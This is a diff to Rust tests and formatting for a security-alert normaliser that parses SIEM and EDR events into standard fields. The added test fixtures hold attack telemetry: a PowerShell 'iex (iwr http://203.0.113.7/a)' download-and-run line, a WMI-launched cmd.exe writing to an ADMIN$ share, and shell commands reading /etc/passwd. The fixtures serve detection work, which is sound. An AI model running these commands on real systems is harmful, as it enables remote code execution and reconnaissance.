@@ -3158,15 +3158,18 @@ fn derive(e: &mut Map<String, Json>) {
             .and_then(|c| c.get("subject_name"))
             .is_none()
     }) {
-        let signer = ["santa.certificate.common_name", "file.x509.subject.common_name"]
-            .iter()
-            .find_map(|p| {
-                let mut keys = p.split('.');
-                let first = e.get(keys.next()?)?;
-                keys.try_fold(first, |v, k| v.get(k))
-            })
-            .filter(|v| v.as_str().is_some_and(|t| !t.trim().is_empty()))
-            .cloned();
+        let signer = [
+            "santa.certificate.common_name",
+            "file.x509.subject.common_name",
+        ]
+        .iter()
+        .find_map(|p| {
+            let mut keys = p.split('.');
+            let first = e.get(keys.next()?)?;
+            keys.try_fold(first, |v, k| v.get(k))
+        })
+        .filter(|v| v.as_str().is_some_and(|t| !t.trim().is_empty()))
+        .cloned();
         if let Some(signer) = signer {
             set_path(e, "process.code_signature.subject_name", signer);
         }
@@ -3503,6 +3506,26 @@ mod tests {
         assert_eq!(at(&a, "powershell.command.name"), "Restart-WebAppPool");
         assert_eq!(at(&a, "user.name"), "adm-s");
         assert_eq!(at(&a, "host.name"), "WEB-3.corp.example");
+        // A process creation (4688) whose rendered message lost its line breaks.
+        let q2 = json!({"offense_type": 0, "magnitude": 8, "events": [{"qid": 1,
+            "UTF8_payload": "<13>Mar 12 04:18:03 FS02 AgentDevice=WindowsLog\tAgentLogFile=Security\tComputer=FS02.corp.example\tUser=\tDomain=\tEventID=4688\tMessage=A new process has been created.  Creator Subject:  Security ID:  CORP\\adm-t  Account Name:  adm-t  Account Domain:  CORP  Logon ID:  0x3E1  Target Subject:  Security ID:  NULL SID  Account Name:  -  Process Information:  New Process ID:  0x1f48  New Process Name: C:\\Windows\\System32\\cmd.exe  Token Elevation Type: %%1936  Creator Process ID: 0x9c4  Creator Process Name: C:\\Windows\\System32\\wbem\\WmiPrvSE.exe  Process Command Line: cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1"}]});
+        let a = from_json(q2, "x").unwrap();
+        assert_eq!(at(&a, "process.parent.name"), "WmiPrvSE.exe");
+        assert!(at(&a, "process.command_line").starts_with("cmd.exe /Q /c cd"));
+        assert_eq!(at(&a, "user.name"), "adm-t");
+        // Audit records a SIEM correlated: the shell's record (known by its arguments alone)
+        // stays beside the newer child's.
+        let q3 = json!({"offense_type": 0, "magnitude": 8, "events": [
+            {"qid": 2, "UTF8_payload": "<14>Mar 12 03:22:40 web audispd: node=web type=SYSCALL msg=audit(1741749760.412:88213): arch=c000003e syscall=59 success=yes exit=0 ppid=2187 pid=3041 auid=4294967295 uid=33 euid=33 comm=\"sh\" exe=\"/usr/bin/dash\""},
+            {"qid": 2, "UTF8_payload": "<14>Mar 12 03:22:40 web audispd: node=web type=EXECVE msg=audit(1741749760.412:88213): argc=3 a0=\"sh\" a1=\"-c\" a2=\"id;uname -a\""},
+            {"qid": 2, "UTF8_payload": "<14>Mar 12 03:22:40 web audispd: node=web type=EXECVE msg=audit(1741749760.419:88216): argc=2 a0=\"cat\" a1=\"/etc/passwd\""}]});
+        let a = from_json(q3, "x").unwrap();
+        assert!(at(&a, "process.command_line").contains("id;uname -a"));
+        // A case whose description holds the SIEM's event as fenced JSON: a script block is
+        // what ran, though no process is named.
+        let case = json!({"_type": "Alert", "title": "PowerShell obfuscation", "description": "Wazuh rule fired.\n\n```json\n{\"data\": {\"win\": {\"system\": {\"eventID\": \"4104\", \"providerName\": \"Microsoft-Windows-PowerShell\", \"computer\": \"LT-5\"}, \"eventdata\": {\"scriptBlockText\": \"iex (iwr http://203.0.113.7/a)\"}}}, \"agent\": {\"name\": \"LT-5\"}, \"rule\": {\"id\": \"1\"}}\n```"});
+        let a = from_json(case, "x").unwrap();
+        assert!(at(&a, "powershell.file.script_block_text").contains("iwr"));
         // Panther's alerts API (`analysisId`) with the osquery rows it matched.
         let p = json!({"alertId": "5d2", "analysisId": "Linux.Masquerade", "title": "Interpreter as kernel thread",
             "tags": ["T1036.004", "T1059.004"],
@@ -3512,13 +3535,18 @@ mod tests {
         let a = from_json(p, "x").unwrap();
         assert_eq!(at(&a, "process.executable"), "/usr/bin/bash");
         assert_eq!(at(&a, "host.name"), "web-2");
-        assert_eq!(a.doc["threat"]["technique"]["id"], json!(["T1036.004", "T1059.004"]));
+        assert_eq!(
+            a.doc["threat"]["technique"]["id"],
+            json!(["T1036.004", "T1059.004"])
+        );
         // Santa through Filebeat: the executed file's signer becomes the process's.
         let sa = json!({"event": {"action": "exec", "category": ["process"]}, "host": {"name": "mac-1", "os": {"type": "macos"}},
             "process": {"executable": "/Users/s/Library/x/AdobeSyncHelper", "name": "AdobeSyncHelper", "args": ["AdobeSyncHelper", "/Users/s/Library/x/.c/sync.py"]},
             "file": {"x509": {"subject": {"common_name": "Developer ID Application: Python Software Foundation (BMM5U3QVKW)"}}}});
         let a = from_json(sa, "x").unwrap();
-        assert!(at(&a, "process.code_signature.subject_name").contains("Python Software Foundation"));
+        assert!(
+            at(&a, "process.code_signature.subject_name").contains("Python Software Foundation")
+        );
     }
 
     #[test]
